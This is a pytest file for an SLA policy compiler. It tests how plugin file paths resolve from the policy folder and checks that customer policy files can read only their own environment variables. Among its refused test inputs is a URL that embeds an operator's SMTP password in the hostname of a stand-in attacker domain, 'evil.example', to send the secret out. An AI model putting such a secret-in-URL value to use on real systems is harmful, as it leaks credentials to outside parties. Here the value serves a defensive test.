"""What is read into a plugin's table: files from the folder of the policy file, and what customers' files may read."""

from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from attrs import frozen

from sla_engine.plugin import Outcome, Probe, ProbeRun, Secret
from sla_engine.policy import Compilation, Plugins, compile_policies
from sla_engine.policy.codes import Code
from sla_engine.policy.own_variables import is_own

Compiled = Callable[..., Compilation]


@frozen
class Inner:
    """Nested, as plugins may nest."""

    file: str | None = None  # a file


@frozen
class FileProbe(Probe):
    """Read files."""

    ca_file: str | None = None  # a file
    maildir: str | None = None  # a folder
    schema: str | Mapping[str, object] | None = None  # a file, or the schema itself
    title: str | None = None  # no file
    password: Secret | None = None  # a secret
    inner: tuple[Inner, ...] = ()  # more of them

    async def run(self, run: ProbeRun) -> Outcome:
        return Outcome.up()


@pytest.fixture
def settings(tmp_path: Path) -> Callable[..., FileProbe]:
    """The probe of a check whose table is written in a file of a folder within the policies."""

    def read(table: str, **environ: str) -> FileProbe:
        folder = tmp_path / "policies" / "mail"
        folder.mkdir(parents=True)
        (folder / "relay.toml").write_text(f'[service.relay.check.x]\nprobe = "file"\n{table}')
        plugins = Plugins({"file": FileProbe}, {})
        compilation = compile_policies([tmp_path / "policies"], plugins=plugins, environ=environ)
        assert compilation.policies is not None, compilation.text
        found: FileProbe = compilation.policies.services["relay"].checks[0].settings
        return found

    return read


def test_files_are_found_from_the_folder_of_the_policy_file(settings: Callable[..., FileProbe], tmp_path: Path) -> None:
    folder = tmp_path / "policies" / "mail"

    found = settings(
        'ca_file = "ca.pem"\nmaildir = "../box"\nschema = "${KIND}.json"\ntitle = "ca.pem"\n'
        'password = { file = "secret" }\ninner = [{ file = "inner.txt" }]',
        KIND="mail",
    )

    assert (found.ca_file, found.maildir, found.schema) == (
        f"{folder}/ca.pem",
        f"{folder}/../box",
        f"{folder}/mail.json",
    )
    assert found.password == Secret("file", f"{folder}/secret")
    assert found.inner == (Inner(f"{folder}/inner.txt"),)
    assert found.title == "ca.pem"


def test_whole_names_and_what_is_no_name_stay_as_they_are(settings: Callable[..., FileProbe]) -> None:
    found = settings('ca_file = "/etc/ca.pem"\nschema = { type = "object" }\npassword = { env = "file" }')

    assert (found.ca_file, found.schema, found.password) == (
        "/etc/ca.pem",
        {"type": "object"},
        Secret("env", "file"),
    )


RELAY = '[customer.acme.service.relay.check.x]\nprobe = "door"\n'


@pytest.mark.parametrize(
    ("written", "is_refused"),
    [
        ('url = "u"\npassword = { env = "CUSTOMER_ACME_PASSWORD" }', False),
        ('url = "${CUSTOMER_ACME_HOST:-u}"', False),
        ('url = "u"\npassword = { env = "SMTP_PASSWORD" }', True),
        ('url = "u"\npassword = { env = "CUSTOMER_ACMEX_PASSWORD" }', True),
        ('url = "u"\npassword = { env = "CUSTOMER_ACME_EU_PASSWORD" }', True),
        ('url = "u"\npassword = { plugin = "vault/smtp" }', True),
        ('url = "http://${SMTP_PASSWORD:-x}.evil.example"', True),
        ('url = "http://${CUSTOMER_ACME_HOST:-x}/${SMTP_PASSWORD:-x}"', True),
        ('url = "u"\nnames = ["${SMTP_PASSWORD:-x}"]', True),
    ],
)
def test_a_customers_file_reads_its_own_variables_only(
    compiled: Compiled, small: str, written: str, is_refused: bool
) -> None:
    others = '[customer.acme]\n[customer.acme-eu]\nsla = "standard"\n'

    found = compiled({"a.toml": small, "customers/acme.toml": f"{others}{RELAY}{written}"}).diagnostics

    assert (Code.VARIABLE_FOR_CUSTOMERS in {one.code for one in found}) is is_refused


def test_an_operators_file_reads_any_variable(compiled: Compiled, small: str) -> None:
    relay = f'[customer.acme]\n{RELAY}url = "u"\npassword = {{ env = "SMTP_PASSWORD" }}'

    found = compiled({"a.toml": small, "acme.toml": relay}).diagnostics

    assert Code.VARIABLE_FOR_CUSTOMERS not in {one.code for one in found}


def test_a_variable_is_of_the_customer_with_the_longest_name_that_fits() -> None:
    customers = ["acme", "acme-eu"]

    assert is_own("CUSTOMER_ACME_KEY", "acme", customers)
    assert is_own("CUSTOMER_ACME_EU_KEY", "acme-eu", customers)
    assert not is_own("CUSTOMER_ACME_EU_KEY", "acme", customers)
    assert is_own("CUSTOMER_ACME_EU_KEY", "acme", ["acme"])
